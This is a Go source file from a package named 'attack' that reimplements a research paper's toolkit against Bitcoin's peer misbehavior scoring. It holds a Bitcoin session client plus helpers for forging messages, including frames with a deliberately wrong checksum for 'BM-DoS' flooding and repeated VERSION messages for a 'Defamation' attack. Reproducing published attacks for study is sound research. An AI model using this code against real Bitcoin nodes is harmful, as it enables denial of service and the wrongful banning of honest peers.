// Package attack implements the paper's attacker toolkit: a light Bitcoin
// session client (the attacker "is not necessary to be a full Bitcoin
// node"), bogus-message forging, BM-DoS flooding, serial and parallel Sybil
// connection management, and the pre-/post-connection Defamation drivers.
package attack

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"time"

	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// ErrHandshakeFailed is returned when the victim does not complete the
// version handshake.
var ErrHandshakeFailed = errors.New("attack: version handshake failed")

// Session is a minimal Bitcoin application-layer session over any net.Conn,
// corresponding to the python-bitcoinlib client of the paper's prototype.
type Session struct {
	conn net.Conn
	net  wire.BitcoinNet

	sent     uint64
	received uint64
}

// NewSession wraps an established connection.
func NewSession(conn net.Conn, magic wire.BitcoinNet) *Session {
	return &Session{conn: conn, net: magic}
}

// Conn exposes the underlying connection.
func (s *Session) Conn() net.Conn { return s.conn }

// LocalAddr returns the session's local identifier.
func (s *Session) LocalAddr() string { return s.conn.LocalAddr().String() }

// Handshake performs the client half of the version handshake: send
// VERSION, collect the victim's VERSION and VERACK, reply VERACK.
func (s *Session) Handshake(timeout time.Duration) error {
	if err := s.Send(s.versionMsg()); err != nil {
		return fmt.Errorf("%w: send version: %v", ErrHandshakeFailed, err)
	}
	deadline := clk.Now().Add(timeout)
	sawVersion, sawVerack := false, false
	for !sawVersion || !sawVerack {
		msg, err := s.Recv(clk.Until(deadline))
		if err != nil {
			return fmt.Errorf("%w: %v", ErrHandshakeFailed, err)
		}
		switch msg.(type) {
		case *wire.MsgVersion:
			sawVersion = true
		case *wire.MsgVerAck:
			sawVerack = true
		}
	}
	if err := s.Send(&wire.MsgVerAck{}); err != nil {
		return fmt.Errorf("%w: send verack: %v", ErrHandshakeFailed, err)
	}
	return nil
}

// versionMsg builds the session's VERSION message.
func (s *Session) versionMsg() *wire.MsgVersion {
	me := wire.NewNetAddressIPPort(net.IPv4zero, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4zero, 0, 0)
	return wire.NewMsgVersion(me, you, rand.Uint64(), 0)
}

// Version exposes a fresh VERSION message (the Defamation attack resends
// these to accumulate "Duplicate VERSION" points).
func (s *Session) Version() *wire.MsgVersion { return s.versionMsg() }

// Send frames and writes a message with a correct checksum.
func (s *Session) Send(msg wire.Message) error {
	if _, err := wire.WriteMessage(s.conn, msg, wire.ProtocolVersion, s.net); err != nil {
		return err
	}
	s.sent++
	return nil
}

// SendRaw frames an arbitrary payload with a correct checksum.
func (s *Session) SendRaw(command string, payload []byte) error {
	if _, err := wire.WriteRawMessage(s.conn, command, payload, s.net); err != nil {
		return err
	}
	s.sent++
	return nil
}

// SendBogusChecksum frames a payload with a deliberately wrong checksum —
// the transport drops it before misbehavior tracking (BM-DoS vector 2).
func (s *Session) SendBogusChecksum(command string, payload []byte) error {
	return s.sendRawChecksum(command, payload, bogusChecksumFor(payload))
}

// bogusChecksumFor returns a checksum guaranteed wrong for the payload.
func bogusChecksumFor(payload []byte) [4]byte {
	checksum := [4]byte{0xde, 0xad, 0xbe, 0xef}
	if checksum == chainhash.Checksum4(payload) {
		checksum[0] ^= 0xff
	}
	return checksum
}

// sendRawChecksum frames a payload under a caller-supplied checksum.
func (s *Session) sendRawChecksum(command string, payload []byte, checksum [4]byte) error {
	if _, err := wire.WriteRawMessageChecksum(s.conn, command, payload, s.net, checksum); err != nil {
		return err
	}
	s.sent++
	return nil
}

// Recv reads the next message with the given timeout.
func (s *Session) Recv(timeout time.Duration) (wire.Message, error) {
	if err := s.conn.SetReadDeadline(time.Now().Add(timeout)); err != nil { //lint:allow wallclock(net.Conn deadlines are compared against the OS clock by the runtime poller; a virtual timestamp here would be meaningless)
		return nil, err
	}
	msg, _, err := wire.ReadMessage(s.conn, wire.ProtocolVersion, s.net)
	if err != nil {
		return nil, err
	}
	s.received++
	return msg, nil
}

// AwaitPong reads until the PONG answering nonce arrives — the in-band proof
// that the victim has dispatched every frame written before that PING — or
// the timeout passes (the victim sheds replies once its send queue is full).
func (s *Session) AwaitPong(nonce uint64, timeout time.Duration) error {
	deadline := clk.Now().Add(timeout)
	for {
		msg, err := s.Recv(clk.Until(deadline))
		if err != nil {
			return err
		}
		if pong, ok := msg.(*wire.MsgPong); ok && pong.Nonce == nonce {
			return nil
		}
	}
}

// Sent returns the number of messages written.
func (s *Session) Sent() uint64 { return s.sent }

// Close terminates the session.
func (s *Session) Close() error { return s.conn.Close() }
